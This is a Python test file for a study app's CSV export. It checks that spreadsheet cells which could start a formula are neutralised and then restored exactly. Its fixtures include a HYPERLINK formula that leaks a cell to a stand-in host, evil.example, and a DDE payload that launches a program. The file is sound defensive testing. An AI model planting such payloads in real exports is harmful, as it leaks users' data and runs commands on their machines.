"""CSV cells never start a formula, and the question CSV undoes exactly what it added."""

from __future__ import annotations

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st

from studyapp.csvcells import neutralise, restore, to_csv

EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Click for grade")'


def test_formula_starts_are_quoted_numbers_are_not():
    for cell in (EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\rx", "-", "'=1"):
        assert neutralise(cell).startswith("'"), cell
    for cell in ("-40", "+3.5", "-0,5", "1e-3", "plain text", "", "Smith, Jane", "a=b"):
        assert neutralise(cell) == cell, cell
    assert neutralise(-40) == -40 and neutralise(None) is None


def test_hand_written_apostrophes_survive_import():
    assert restore("'hello") == "'hello"  # no formula behind it: the author meant it
    assert restore("'=1+1") == "=1+1"


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@\t\r'\"0123456789.,eE ax|"), max_size=8) | st.text())
def test_restore_undoes_neutralise(cell):
    assert restore(neutralise(cell)) == cell
    written = neutralise(cell)
    assert not written.startswith(("=", "@", "\t", "\r"))
    if written.startswith(("+", "-")):
        float(written.replace(",", "."))  # only a number may start with a sign


def test_report_csv_has_no_live_formula():
    data = to_csv(["student", "score"], [[EVIL, -40], ["Ann", 3]])
    rows = list(csv.reader(io.StringIO(data.decode())))
    assert rows == [["student", "score"], ["'" + EVIL, "-40"], ["Ann", "3"]]
